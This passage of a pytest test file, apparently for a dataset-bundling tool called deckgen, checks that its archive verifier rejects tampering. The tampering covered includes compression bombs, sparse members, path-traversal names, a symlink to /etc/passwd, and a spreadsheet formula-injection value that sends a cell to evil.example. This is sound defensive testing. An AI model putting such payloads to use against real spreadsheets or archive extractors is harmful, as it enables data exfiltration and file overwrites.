        1, deck="zeta-labs", id="zeta-labs/001"))
    assert "metadata.jsonl line 4 (zeta-labs/001): page 1 of deck zeta-labs is also " \
           "metadata.jsonl line 1 (zeta-labs/001)" in problems


def test_verify_flags_a_stated_size_that_is_not_the_images(corpus, tmp_path):
    problems = _republished(corpus, tmp_path, _edit_both(1, source_width=192))
    assert problems == [
        "metadata.jsonl line 1 (acme/001): source_width 192, but "
        "images/original/acme/001.jpg is 96 px wide",
        "metadata.jsonl line 1 (acme/001): source_width 192 x upscale_scale 2.0 is 384, but "
        "images/upscaled/acme/001.webp is 192 px",
    ]
    problems = _republished(corpus, tmp_path, _edit_both(1, upscale_scale=4.0))
    assert problems == [
        "metadata.jsonl line 1 (acme/001): source_width 96 x upscale_scale 4.0 is 384, but "
        "images/upscaled/acme/001.webp is 192 px",
        "metadata.jsonl line 1 (acme/001): source_height 54 x upscale_scale 4.0 is 216, but "
        "images/upscaled/acme/001.webp is 108 px",
    ]


def test_verify_flags_a_predicted_label_the_classifier_cannot_give(corpus, tmp_path):
    def only_label(section: str, **changes):  # slides.csv and the card follow the edit
        def edit_card(data: bytes) -> bytes:
            data = data.replace(b"| `problem` (Problem) | 5 |", b"| `problem` (Problem) | 4 |")
            title = section.capitalize().encode()
            return data.replace(b"| `%s` (%s) | 0 |" % (section.encode(), title),
                                b"| `%s` (%s) | 1 |" % (section.encode(), title))
        return {**_edit_both(1, section=section, **changes), "README.md": edit_card}

    assert _republished(corpus, tmp_path, only_label("team")) == [
        "metadata.jsonl line 1 (acme/001): section 'team' (predicted) scores 0.0 in "
        "section_scores, under the classifier's min_confidence 0.25 (provenance.json), which "
        "labels such a slide other (top: problem 0.7)"]
    # the deck's decoding may choose a runner-up over the top score; a hand-set label is free
    assert _republished(corpus, tmp_path, only_label("market")) == []
    assert _republished(corpus, tmp_path, only_label("team", section_source="curated")) == []


def test_verify_checks_an_unpacked_folder(corpus, tmp_path):
    _build(corpus, tmp_path)
    unpack(tmp_path / archive_name("1"), tmp_path / "x")
    folder = tmp_path / "x" / ROOT
    assert verify_bundle(folder) == []
    assert verify_bundle(tmp_path / "x") == []  # the folder tar -xzf ran in
    # a repacked archive verifies too: its own hash is what tells it from the published one
    archive = tmp_path / archive_name("1")
    said = " ".join(_cli_verify(archive).stderr.split())
    assert (f"{archive}: OK (its SHA-256 is {hashlib.sha256(archive.read_bytes()).hexdigest()}; "
            "the dataset page lists the published archive's)") in said
    result = _cli_verify(folder)
    assert result.returncode == 0 and "OK" in result.stderr, result.stderr
    listed = hashlib.sha256((folder / "slides.csv").read_bytes()).hexdigest()
    (folder / "slides.csv").write_text((folder / "slides.csv").read_text().replace(
        ",fintech,", ",biotech,"))
    actual = hashlib.sha256((folder / "slides.csv").read_bytes()).hexdigest()
    (folder / "notes.txt").write_text("mine")
    assert verify_bundle(folder) == [
        f"slides.csv: checksum mismatch (SHA256SUMS {listed[:12]}…, actual {actual[:12]}…)",
        "notes.txt: not listed in SHA256SUMS"]


def test_text_a_spreadsheet_would_run_is_quoted_in_slides_csv_and_kept_in_jsonl(corpus, tmp_path):
    slides, decks = corpus
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    decks["acme"].company = formula
    # U+2028 in a JSON string is raw, and str.splitlines breaks there: verify cut the line
    slides[0].ocr.text = "-20% churn\u2028@everyone +1"
    _build((slides, decks), tmp_path)
    archive = tmp_path / archive_name("1")
    members = _members(archive)
    table = list(csv.DictReader(io.StringIO(members[f"{ROOT}/slides.csv"].decode())))
    assert table[0]["company"] == "'" + formula and table[0]["text"].startswith("'-20% churn")
    rows = [json.loads(line) for line in members[f"{ROOT}/metadata.jsonl"].decode().split("\n")
            if line]
    assert rows[0]["company"] == formula and rows[0]["text"] == "-20% churn\u2028@everyone +1"
    assert "starts with `'` there" in members[f"{ROOT}/README.md"].decode()
    # QA-82: the Data Package said nothing of it
    package = json.loads(members[f"{ROOT}/datapackage.json"])
    [described] = [r["description"] for r in package["resources"] if r["name"] == "slides"]
    assert ("a text that starts with =, +, - or @ starts with ' here, so spreadsheets show it "
            "instead of running it as a formula") in described
    assert verify_bundle(archive) == []


def test_verify_does_not_hold_a_compression_bomb_or_trust_a_member_given_twice(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    bomb = 70 << 20  # zeros: ~70 KB compressed, past 64 MiB of text
    _rewrite(archive, lambda name, data: b"\0" * bomb if name == "README.md" else data)
    assert archive.stat().st_size < 1 << 20
    problems = verify_bundle(archive)
    assert f"README.md: {bomb:,} bytes of text, more than 20 times the download; not read " \
           "(a compression bomb?)" in problems
    _build(corpus, tmp_path)  # a good archive, then a bad copy of one image before the real one
    first = next(n for n in _members(archive) if n.endswith(".webp"))
    with tarfile.open(archive, "r:gz") as src:
        members = [(m, src.extractfile(m).read() if m.isfile() else None) for m in src]
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as dst:
        for member, data in members:
            if member.name == first:
                fake = tarfile.TarInfo(first)
                fake.size = 4
                dst.addfile(fake, io.BytesIO(b"evil"))
            dst.addfile(member, io.BytesIO(data) if data is not None else None)
    archive.write_bytes(out.getvalue())
    assert f"{first}: in the archive twice" in verify_bundle(archive)


def test_verify_reads_json_as_the_standard_has_it_and_a_broken_csv_as_a_problem(corpus, tmp_path):
    # Python's json reads NaN, JavaScript's does not: and nan slips past every range check
    nan = _republished(corpus, tmp_path, _edit_both(1, upscale_scale=float("nan")))
    assert any(p.startswith("metadata.jsonl line 1: not valid JSON (NaN is not JSON)")
               for p in nan), nan
    stray = _republished(corpus, tmp_path / "cr", {
        "slides.csv": lambda data: data.replace(b",problem,", b",pro\rblem,", 1)})
    assert any(p.startswith("slides.csv: not valid CSV (new-line character") for p in stray)


@pytest.mark.parametrize("member, key, value", [("croissant.json", "distribution", 5),
                                                ("datapackage.json", "resources", 5),
                                                ("provenance.json", "decks", [])])
def test_verify_reports_a_forged_document_of_the_wrong_shape_without_crashing(
        corpus, tmp_path, member, key, value):
    def forge(data: bytes) -> bytes:
        doc = json.loads(data)
        doc[key] = value
        return json.dumps(doc).encode()

    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    files = {name.split("/", 1)[1]: data for name, data in _members(archive).items()}
    files[member] = forge(files[member])
    files["SHA256SUMS"] = "".join(f"{hashlib.sha256(files[n]).hexdigest()}  {n}\n"
                                  for n in sorted(files) if n != "SHA256SUMS").encode()
    _rewrite(archive, lambda name, data: files[name])
    problems = verify_bundle(archive)  # was a TypeError traceback
    assert problems and all(isinstance(p, str) for p in problems), member


def test_the_cards_yaml_header_escapes_what_yaml_does_not_allow_raw(corpus, tmp_path):
    import yaml

    slides, decks = corpus
    decks["acme"].license = "Custom licence \uffff \u0394"
    _build((slides, decks), tmp_path)
    card = _members(tmp_path / archive_name("1"))[f"{ROOT}/README.md"].decode()
    header = yaml.safe_load(card.split("---\n")[1])  # Hugging Face reads it with a YAML parser
    assert "Custom licence \uffff \u0394" in header["license_name"]
    assert "\uffff" not in card.split("---\n")[1]


def test_bundle_build_sweeps_a_killed_writes_temp_file_and_says_the_site_is_unfinished(
    tmp_path, tiny_corpus
):
    assert subprocess.run(build_cmd(tmp_path, tiny_corpus), capture_output=True).returncode == 0
    site, dataset = tmp_path / "site", tmp_path / "site" / "dataset"
    bundle = [*build_cmd(tmp_path, tiny_corpus)[:3], "bundle", "build", "--out", str(site),
              "--cache", str(tmp_path / "build")]
    finished = subprocess.run(bundle, capture_output=True, text=True, timeout=300)
    assert finished.returncode == 0, finished.stderr
    assert "not a finished site" not in finished.stderr and "temp file" not in finished.stderr
    # beta-health states no licence: said as the build says it
    assert ("warning: 1 deck in the dataset carries no open licence (none stated, or one that "
            "does not allow reuse): beta-health") in " ".join(finished.stderr.split())
    # what a `bundle build` killed while writing the archive leaves (mkstemp's name)
    leftover = dataset / f".{archive_name(DATASET_VERSION)}.k3j9x_2q.tmp"
    leftover.write_bytes(b"half an archive")
    (site / ".deckgen-site").unlink()  # a build killed in its site stage removed it
    result = subprocess.run(bundle, capture_output=True, text=True, timeout=300)
    said = " ".join(result.stderr.split())  # rich wraps long lines
    assert result.returncode == 0, said
    assert not leftover.exists()
    assert f"removed 1 temp files of an interrupted write from {dataset}" in said
    assert (f"warning: {site} is not a finished site (a build stopped halfway?); this "
            "archive is the last finished build's: run `deckgen build` to finish the site") in said
    assert verify_bundle(dataset / archive_name(DATASET_VERSION)) == []


def test_bundle_build_writes_the_builds_archive_names_a_new_setting_and_waits_its_turn(
    tmp_path, tiny_corpus
):
    # QA-57: [bundle] open_only set after the build was silently ignored, and a cache whose
    # first build was still running was "no build found" (2), not busy (7)
    from deckgen.files import exclusive_lock

    bundle = [*build_cmd(tmp_path, tiny_corpus)[:3], "bundle", "build", "--out",
              str(tmp_path / "site"), "--cache", str(tmp_path / "build")]
    (tmp_path / "build").mkdir()
    with exclusive_lock(tmp_path / "build" / "lock"):  # a first build, still running
        busy = subprocess.run(bundle, capture_output=True, text=True, timeout=300)
    assert busy.returncode == 7 and "busy: another deckgen run" in busy.stderr, busy.stderr
    assert subprocess.run(build_cmd(tmp_path, tiny_corpus), capture_output=True).returncode == 0
    config = tmp_path / "deckgen.toml"
    config.write_text("[bundle]\nopen_only = true\n")
    result = subprocess.run([*bundle, "--config", str(config)], capture_output=True, text=True,
                            timeout=300)
    said = " ".join(result.stderr.split())
    assert result.returncode == 0, said
    command = shlex.join(["deckgen", "build", "--config", str(config), "--corpus",
                          str(tiny_corpus), "--out", str(tmp_path / "site"), "--cache",
                          str(tmp_path / "build")])  # quoted, and the folders this used (QA-60)
    assert (f"{config} sets [bundle] open_only = true, but the last build did not: this writes "
            f"the build's archive; run `{command}` to apply it") in said
    assert "Set open_only" not in said  # said once, naming the file read (QA-59)
    assert json.loads(result.stdout)["not_open_names"] == ["beta-health"]  # still in it
    # a settings file that writes no [bundle] key asks for nothing (QA-60)
    config.write_text("# my settings\n")
    quiet = subprocess.run([*bundle, "--config", str(config)], capture_output=True, text=True,
                           timeout=300)
    assert quiet.returncode == 0 and "sets [bundle]" not in quiet.stderr, quiet.stderr
    # no settings file: nothing was asked, and the advice names what to do
    plain = subprocess.run(bundle, capture_output=True, text=True, timeout=300,
                           cwd=tmp_path / "build")
    said = " ".join(plain.stderr.split())
    assert plain.returncode == 0 and "sets [bundle]" not in said, said
    assert "under [bundle] in deckgen.toml and run `deckgen build` to leave them out" in said


def test_the_warnings_say_which_decks_open_only_left_out_and_an_empty_archive():
    from deckgen.build_report import dataset_warnings

    [line] = dataset_warnings({"left_out_not_open": ["a", "b"], "slides": 3}, "r.json")
    assert line == ("[bundle] open_only left 2 decks without an open licence out of the dataset "
                    "archive: a, b; the site still shows them")
    [line] = dataset_warnings({"left_out_not_open": ["a"], "slides": 0}, "r.json")
    assert line.endswith("out of the dataset archive: a; the archive holds no slide")


# --- verify a copy repacked, unpacked or re-compressed by a mirror or a researcher -------------

def _unpacked(corpus, tmp_path: Path) -> Path:
    """A built bundle unpacked under tmp_path/x: the folder holding ROOT."""
    _build(corpus, tmp_path)
    unpack(tmp_path / archive_name("1"), tmp_path / "x")
    return tmp_path / "x"


def _tar_czf(archive: Path, cwd: Path, *paths: str) -> list[str]:
    """`tar czf` as a researcher runs it; the member names it wrote."""
    subprocess.run(["tar", "czf", str(archive), *paths], cwd=cwd, check=True)
    with tarfile.open(archive, "r:gz") as tar:
        return tar.getnames()


def test_verify_reads_an_archive_repacked_with_dot_slash_or_without_its_top_folder(
        corpus, tmp_path):
    import shutil

    unpacked = _unpacked(corpus, tmp_path)
    folder = unpacked / ROOT
    made = shutil.make_archive(str(tmp_path / "p0"), "gztar", root_dir=unpacked,
                               base_dir=f"./{ROOT}")
    assert f"./{ROOT}/README.md" in tarfile.open(made).getnames()
    assert f"./{ROOT}/README.md" in _tar_czf(tmp_path / "p1.tar.gz", unpacked, f"./{ROOT}")
    assert "./README.md" in _tar_czf(tmp_path / "p2.tar.gz", folder, ".")
    assert "README.md" in _tar_czf(tmp_path / "p3.tar.gz", folder, *sorted(
        p.name for p in folder.iterdir()))
    assert f"{ROOT}/README.md" in _tar_czf(tmp_path / "p4.tar.gz", unpacked, ROOT)
    for archive in (Path(made), *(tmp_path / f"p{n}.tar.gz" for n in range(1, 5))):
        assert verify_bundle(archive) == [], archive.name  # was: every file missing
    # a changed file in such a copy is named as changed, never as missing
    (folder / "slides.csv").write_bytes((folder / "slides.csv").read_bytes() + b"\n")
    for name, paths, cwd in [("q1", [f"./{ROOT}"], unpacked), ("q3", ["README.md", "SHA256SUMS",
                             "croissant.json", "datapackage.json", "images", "metadata.jsonl",
                             "provenance.json", "slides.csv"], folder)]:
        _tar_czf(tmp_path / f"{name}.tar.gz", cwd, *paths)
        problems = verify_bundle(tmp_path / f"{name}.tar.gz")
        assert len(problems) == 1 and problems[0].startswith("slides.csv: checksum mismatch"), \
            problems


def _with_members(archive: Path, extra: list[tuple[tarfile.TarInfo, bytes | None]],
                  rename=lambda name: name, at_start: bool = False) -> None:
    """The archive with its members renamed by ``rename`` and ``extra`` ones added (after
    them, or ``at_start``)."""
    def add_extra(dst: tarfile.TarFile) -> None:
        for info, data in extra:
            info.size = len(data or b"")
            dst.addfile(info, io.BytesIO(data) if data is not None else None)

    out = io.BytesIO()
    with tarfile.open(archive, "r:gz") as src, tarfile.open(fileobj=out, mode="w:gz") as dst:
        if at_start:
            add_extra(dst)
        for member in src:
            data = src.extractfile(member) if member.isfile() else None
            member.name = rename(member.name)
            dst.addfile(member, data)
        if not at_start:
            add_extra(dst)
    archive.write_bytes(out.getvalue())


def test_verify_keeps_path_safety_strict_in_a_dot_slash_or_rootless_archive(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    link = tarfile.TarInfo(f"./{ROOT}/images/link.webp")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    _with_members(archive, [(tarfile.TarInfo("./../evil.txt"), b"x"),
                            (tarfile.TarInfo(f"./{ROOT}/./../../evil2.txt"), b"x"), (link, None)],
                  rename=lambda name: f"./{name}")
    assert verify_bundle(archive) == ["./../evil.txt: unsafe member path",
                                      f"./{ROOT}/./../../evil2.txt: unsafe member path",
                                      f"./{ROOT}/images/link.webp: not a regular file"]
    _build(corpus, tmp_path)  # at the root: the same
    link.name = "images/link.webp"
    _with_members(archive, [(tarfile.TarInfo("/abs.txt"), b"x"), (link, None)],
                  rename=lambda name: name.partition("/")[2] or ".")
    assert verify_bundle(archive) == ["/abs.txt: unsafe member path",
                                      "images/link.webp: not a regular file"]
    _build(corpus, tmp_path)  # the same file twice, once with ./
    _with_members(archive, [(tarfile.TarInfo(f"./{ROOT}/README.md"), b"evil")])
    assert f"./{ROOT}/README.md: in the archive twice" in verify_bundle(archive)


def test_verify_names_macos_metadata_in_an_archive_once_not_as_unlisted_files(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    # what `tar czf` on a Mac adds (AppleDouble), and what Archive Utility's folder holds
    _with_members(archive, [(tarfile.TarInfo(f"./._{ROOT}"), b"\0\5\26\7"),
                            (tarfile.TarInfo(f"./{ROOT}/._README.md"), b"\0\5\26\7"),
                            (tarfile.TarInfo(f"__MACOSX/{ROOT}/._SHA256SUMS"), b"\0\5\26\7")],
                  rename=lambda name: f"./{name}")
    problems = verify_bundle(archive)
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"3 macOS metadata members (./._{ROOT}, ./{ROOT}/._README.md, "
                                  f"__MACOSX/{ROOT}/._SHA256SUMS), which a Mac adds"), problems


def test_verify_skips_files_the_os_left_in_an_unpacked_folder_but_not_in_an_archive(
        corpus, tmp_path):
    folder = _unpacked(corpus, tmp_path) / ROOT
    for name in (".DS_Store", "Thumbs.db", "images/desktop.ini", "images/._001.webp"):
        (folder / name).write_bytes(b"os")
    notes: list[str] = []
    assert verify_bundle(folder, notes) == []  # as `sha256sum -c SHA256SUMS` passes
    assert notes == ["skipped 4 files the operating system left in the folder, not part of the "
                     "dataset: .DS_Store, Thumbs.db, images/._001.webp, images/desktop.ini"]
    assert verify_bundle(folder.parent) == []
    said = " ".join(_cli_verify(folder).stderr.split())
    assert "note: skipped 4 files the operating system left in the folder" in said
    assert said.endswith(f"{folder}: OK")
    (folder / "notes.txt").write_text("mine")  # a file of one's own still fails
    assert verify_bundle(folder) == ["notes.txt: not listed in SHA256SUMS"]
    archive = tmp_path / archive_name("1")
    _with_members(archive, [(tarfile.TarInfo(f"{ROOT}/.DS_Store"), b"os")])
    assert verify_bundle(archive) == [".DS_Store: not listed in SHA256SUMS"]


def test_verify_says_a_gzip_of_several_members_is_one_not_a_truncated_download(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    whole = gzip.decompress(archive.read_bytes())
    cut = len(whole) // 2  # as bgzip, or (head -c | gzip; tail -c | gzip) > mm.tar.gz
    archive.write_bytes(gzip.compress(whole[:cut], mtime=0) + gzip.compress(whole[cut:], mtime=0))
    problems = verify_bundle(archive)
    assert len(problems) == 1 and "a gzip of several members" in problems[0], problems
    assert "re-compress it with plain gzip" in problems[0]
    assert "unexpected end of data" not in problems[0]


def test_verify_of_the_folder_holding_the_archive_names_the_archive(corpus, tmp_path):
    _build(corpus, tmp_path / "dataset")
    dataset = tmp_path / "dataset"
    assert verify_bundle(dataset) == [
        f"{dataset}: not an unpacked bundle (none of SHA256SUMS, metadata.jsonl, README.md is "
        f"in it); it holds the archive {archive_name('1')}: check that, `deckgen bundle verify "
        f"{dataset / archive_name('1')}`"]
    (dataset / "deckgen-dataset-v0.tar.gz").write_bytes(b"")
    problems = verify_bundle(dataset)
    assert len(problems) == 1 and problems[0].endswith(
        f"it holds the archives deckgen-dataset-v0.tar.gz, {archive_name('1')}: pass one of "
        "them"), problems
    result = _cli_verify(dataset)
    assert result.returncode == 3 and result.stderr.count("✗") == 1, result.stderr


def test_verify_says_in_plain_words_that_sha256sums_was_remade_after_a_file_changed(
        corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    files = {name.split("/", 1)[1]: data for name, data in _members(archive).items()}
    published = json.loads(files["croissant.json"])["version"].split("+")[1]
    files["slides.csv"] += b"\n"  # a careless mirror: one file changed, SHA256SUMS re-made
    files["SHA256SUMS"] = "".join(f"{hashlib.sha256(files[n]).hexdigest()}  {n}\n"
                                  for n in sorted(files) if n != "SHA256SUMS").encode()
    _rewrite(archive, lambda name, data: files[name])
    problems = verify_bundle(archive)
    now = content_digest({n: hashlib.sha256(d).hexdigest() for n, d in files.items()
                          if n != "SHA256SUMS"})
    assert problems[0] == (
        f"SHA256SUMS: lists other files than the dataset was published with (its documents "
        f"carry the content id {published}, the files listed make {now}): SHA256SUMS was "
        "re-made after a file changed, so this copy is not the published dataset"), problems
    assert sum("does not carry the content id" in p for p in problems) == 3


def test_verify_calls_a_text_member_it_did_not_read_unread_not_missing(corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    _rewrite(archive, lambda name, data: b"\xff" + data if name in ("SHA256SUMS", "slides.csv")
             else data)
    problems = verify_bundle(archive)
    assert problems[0] == "SHA256SUMS: not UTF-8 text" and "slides.csv: not UTF-8 text" in problems
    assert not any("missing" in p for p in problems), problems
    # text is held for either layout (bundle at the root or in a top folder), so a decoy
    # folder's could fill memory: the members' text together is bounded as one member's was
    _build(corpus, tmp_path)
    decoy = (64 << 20) - 10  # all but 10 bytes of the 64 MiB a small archive's text may hold
    _with_members(archive, [(tarfile.TarInfo("a/README.md"), b"\0" * decoy)], at_start=True)
    problems = verify_bundle(archive)
    assert any(p.startswith("README.md: ") and p.endswith(
        "bytes of text, which with the archive's other text is more than 20 times the "
        "download; not read (a compression bomb?)") for p in problems), problems
    assert f"archive has several top-level folders: a, {ROOT}" in problems


# --- verify refuses what would hash for hours or crash: sparse members, bombs, deep JSON ------

def _cli_verify_within(path: Path, seconds: float) -> subprocess.CompletedProcess:
    """``_cli_verify``, failing the test (TimeoutExpired) if it runs past ``seconds``."""
    return subprocess.run([sys.executable, "-m", "deckgen", "bundle", "verify", str(path)],
                          capture_output=True, text=True, env={**os.environ, "COLUMNS": "300"},
                          timeout=seconds)


def _gnu_tar() -> bool:
    try:
        done = subprocess.run(["tar", "--version"], capture_output=True, text=True)
    except OSError:
        return False
    return "GNU tar" in done.stdout


@pytest.mark.skipif(not _gnu_tar(), reason="needs GNU tar, which writes sparse members")
@pytest.mark.parametrize("options", [["--format=gnu"], ["--format=pax", "--sparse-version=0.0"],
                                     ["--format=pax", "--sparse-version=0.1"],
                                     ["--format=pax", "--sparse-version=1.0"]])
def test_verify_refuses_a_sparse_member_without_hashing_its_zeros(corpus, tmp_path, options):
    folder = _unpacked(corpus, tmp_path) / ROOT
    image = folder / "images/upscaled/acme/002.webp"
    os.truncate(image, 200 * 10**9)  # 200 GB, nearly all of it a hole
    archive = tmp_path / "sparse.tar.gz"
    subprocess.run(["tar", "--sparse", *options, "-czf", str(archive), ROOT], cwd=folder.parent,
                   check=True)
    assert archive.stat().st_size < 1 << 20
    with tarfile.open(archive, "r:gz") as tar:
        assert tar.getmember(f"{ROOT}/images/upscaled/acme/002.webp").issparse()
    result = _cli_verify_within(archive, 60)  # was: hours hashing zeros
    assert result.returncode == 3, result.stderr
    assert result.stderr.strip().splitlines() == [
        f"✗ {archive.name}: {ROOT}/images/upscaled/acme/002.webp: a sparse member (as `tar "
        "--sparse` writes; it declares 200,000,000,000 bytes), not an archive deckgen wrote"]


def _appended(archive: Path, info: tarfile.TarInfo, data: io.BufferedIOBase | None) -> None:
    """The archive with ``info`` added last, its data read from ``data`` (None: a header
    only, declaring a size whose data never comes)."""
    out = archive.with_suffix(".new")
    with tarfile.open(archive, "r:gz") as src, tarfile.open(out, "w:gz", compresslevel=9) as dst:
        for member in src:
            dst.addfile(member, src.extractfile(member) if member.isfile() else None)
        if data is None:
            dst.fileobj.write(info.tobuf(dst.format, dst.encoding, dst.errors))  # type: ignore
            dst.offset += tarfile.BLOCKSIZE
        else:
            dst.addfile(info, data)
    out.replace(archive)


class _Zeros(io.RawIOBase):
    """Endless zeros, as /dev/zero gives them."""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:  # type: ignore[override]
        buffer[:] = bytes(len(buffer))
        return len(buffer)


def test_verify_stops_before_reading_members_that_declare_a_compression_bombs_size(
        corpus, tmp_path):
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    with tarfile.open(archive, "r:gz") as tar:
        bundle = sum(member.size for member in tar)
    huge = tarfile.TarInfo(f"{ROOT}/images/huge.webp")
    huge.size = 10**12  # a terabyte declared in a few hundred bytes
    _appended(archive, huge, None)
    size = archive.stat().st_size
    assert verify_bundle(archive) == [  # was: cannot read the archive (unexpected end of data)
        f"{archive.name}: {ROOT}/images/huge.webp: the members up to this one declare "
        f"{10**12 + bundle:,} bytes, more than 20 times the download ({size:,} bytes); not read "
        "(a compression bomb?)"]
    # a real one: 300 MiB of zeros, past the 256 MiB a small archive may declare
    _build(corpus, tmp_path)
    zeros = tarfile.TarInfo(f"{ROOT}/images/zeros.webp")
    zeros.size = 300 << 20
    _appended(archive, zeros, io.BufferedReader(_Zeros()))
    size = archive.stat().st_size
    assert size < 1 << 20
    problems = verify_bundle(archive)  # was: the zeros hashed, then not listed in SHA256SUMS
    assert problems == [
        f"{archive.name}: {ROOT}/images/zeros.webp: the members up to this one declare "
        f"{(300 << 20) + bundle:,} bytes, more than 20 times the download ({size:,} bytes); "
        "not read (a compression bomb?)"]


_DEEP = {"array": "[" * 200_000, "object": '{"a":' * 100_000}


@pytest.mark.parametrize("member", ["croissant.json", "provenance.json", "metadata.jsonl"])
@pytest.mark.parametrize("nesting", sorted(_DEEP))
def test_verify_says_json_nested_too_deeply_in_one_line_not_a_traceback(
        corpus, tmp_path, member, nesting):
    def nest(data: bytes) -> bytes:
        if member != "metadata.jsonl":
            return _DEEP[nesting].encode()
        lines = data.split(b"\n")
        lines[1] = _DEEP[nesting].encode()
        return b"\n".join(lines)

    folder = _unpacked(corpus, tmp_path) / ROOT
    said = f"{member}: not valid JSON (nested too deeply)" if member != "metadata.jsonl" else \
        "metadata.jsonl line 2: not valid JSON (nested too deeply)"
    archive = tmp_path / archive_name("1")
    _rewrite(archive, lambda name, data: nest(data) if name == member else data)
    assert said in verify_bundle(archive)  # was: RecursionError
    (folder / member).write_bytes(nest((folder / member).read_bytes()))
    assert said in verify_bundle(folder)
    result = _cli_verify_within(folder, 60)
    assert result.returncode == 3 and "Traceback" not in result.stderr, result.stderr
    assert f"✗ {said}" in result.stderr


def test_verify_refuses_json_nested_past_any_document_deckgen_writes(corpus, tmp_path):
    # shallow enough for Python's reader, yet no document of deckgen's: what prints or
    # re-encodes it (repr, json.dumps) could still recurse too deeply
    version = "[" * 65 + "]" * 65
    _build(corpus, tmp_path)
    archive = tmp_path / archive_name("1")
    _rewrite(archive, lambda name, data: data.replace(b'"version": "', b'"version": '
                                                      + version.encode() + b', "v": "', 1)
             if name == "croissant.json" else data)
    assert "croissant.json: not valid JSON (nested too deeply)" in verify_bundle(archive)


def test_verify_bounds_the_text_it_reads_from_an_unpacked_folder(corpus, tmp_path):
    folder = _unpacked(corpus, tmp_path) / ROOT
    text = (64 << 20) + (6 << 20)  # past the 64 MiB floor: the folder's images are small
    os.truncate(folder / "metadata.jsonl", text)  # sparse, as the report's 4 GB one
    # a sparse image lends the text no budget: it counts the bytes it holds on disk
    with open(folder / "images" / "big.webp", "wb") as big:
        big.truncate(256 << 20)
    problems = verify_bundle(folder)  # was: read whole (4 GB: MemoryError, a traceback)
    said = (f"metadata.jsonl: {text:,} bytes of text, more than 20 times the folder's other "
            "files; not read (a compression bomb?)")
    if (folder / "images" / "big.webp").stat().st_blocks * 512 < 1 << 20:
        assert said in problems, problems
    result = _cli_verify_within(folder, 60)
    assert result.returncode == 3 and "Traceback" not in result.stderr, result.stderr
    (folder / "images" / "big.webp").unlink()
    assert said in verify_bundle(folder)



@pytest.mark.parametrize("value", ["abc", "1.5", "-1", "1e9", "١٧٠٠", "1700000000000"])
def test_a_source_date_epoch_that_is_no_whole_number_of_seconds_is_a_config_error(
        monkeypatch, value):
    from deckgen.bundle import stated_epoch
    from deckgen.errors import ConfigError

    monkeypatch.setenv("SOURCE_DATE_EPOCH", value)
    with pytest.raises(ConfigError, match="must be a whole number of seconds"):
        stated_epoch()
    for unset, expected in (("", None), ("0", None), (" 1700000000\n", 1700000000)):
        monkeypatch.setenv("SOURCE_DATE_EPOCH", unset)
        assert stated_epoch() == expected


def test_a_malformed_source_date_epoch_stops_build_and_bundle_build_with_exit_2(
        tmp_path, tiny_corpus):
    # QA-82: "abc" gave an undated archive and exit 0; the reproducible-builds spec: an error
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1700000000"}
    assert subprocess.run(build_cmd(tmp_path, tiny_corpus), env=env,
                          capture_output=True).returncode == 0
    bundle = [*build_cmd(tmp_path, tiny_corpus)[:3], "bundle", "build", "--out",
              str(tmp_path / "site"), "--cache", str(tmp_path / "build")]
    for command in (build_cmd(tmp_path, tiny_corpus), bundle):
        result = subprocess.run(command, capture_output=True, text=True, timeout=300,
                                env={**env, "SOURCE_DATE_EPOCH": "abc"})
        said = " ".join(result.stderr.split())
        assert result.returncode == 2, said
        assert ("SOURCE_DATE_EPOCH='abc' is not a time: it must be a whole number of seconds "
                "since 1970-01-01 UTC") in said
        assert "Traceback" not in said


def test_a_malformed_source_date_epoch_is_refused_before_the_build_reads_a_slide(
        tmp_path, tiny_corpus):
    result = subprocess.run(build_cmd(tmp_path, tiny_corpus), capture_output=True, text=True,
                            env={**os.environ, "SOURCE_DATE_EPOCH": "1.5"}, timeout=120)
    assert result.returncode == 2, result.stderr
    # not after every slide's OCR, in the dataset stage: nothing was made
    assert not (tmp_path / "build").exists() and not (tmp_path / "site").exists()


def test_verify_takes_text_layer_words_on_a_pdf_page(corpus, tmp_path):
    slides, decks = corpus
    page = next(s for s in slides if s.id == "zeta-labs/002")
    page.source = "zeta-labs/deck.pdf#p2"
    page.ocr.words[0].source = TEXT_LAYER
    rendered = _encoded(_decoded_rgb(_jpeg(4)), "PNG")
    info = build_bundle(slides, decks, lambda s: rendered if s is page else _jpeg(s.page),
                        lambda s: encode_upscaled(_png_upscaled(_jpeg(1))), tmp_path)
    archive = tmp_path / info["file"].split("/")[-1]
    rows = {r["id"]: r for r in map(json.loads, _members(archive)[
        f"{ROOT}/metadata.jsonl"].splitlines())}
    assert rows["zeta-labs/002"]["source_format"] == "PDF"
    assert rows["zeta-labs/002"]["words"][0]["source"] == TEXT_LAYER
    assert verify_bundle(archive) == []


def _icc_with_tags(base: bytes, tags: dict[bytes, bytes], cmm: bytes) -> bytes:
    """``base``'s header (its preferred CMM ``cmm``) over ``tags`` in this order, each aligned."""
    table_end = 132 + 12 * len(tags)
    body, table = b"", b""
    for sig, tag in tags.items():
        table += struct.pack(">4sII", sig, table_end + len(body), len(tag))
        body += tag + b"\0" * (-len(tag) % 4)
    profile = cmm + base[8:128] + struct.pack(">I", len(tags)) + table + body
    return struct.pack(">I", 4 + len(profile)) + profile


def test_a_colour_profile_keeps_only_its_colour_tags_and_no_preferred_cmm():
    from PIL import ImageCms

    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    tags = {sig: srgb[offset:offset + length] for sig, offset, length in (
        struct.unpack(">4sII", srgb[entry:entry + 12])
        for entry in range(132, 132 + 12 * struct.unpack(">I", srgb[128:132])[0], 12))}

    def xyz(*values: float) -> bytes:
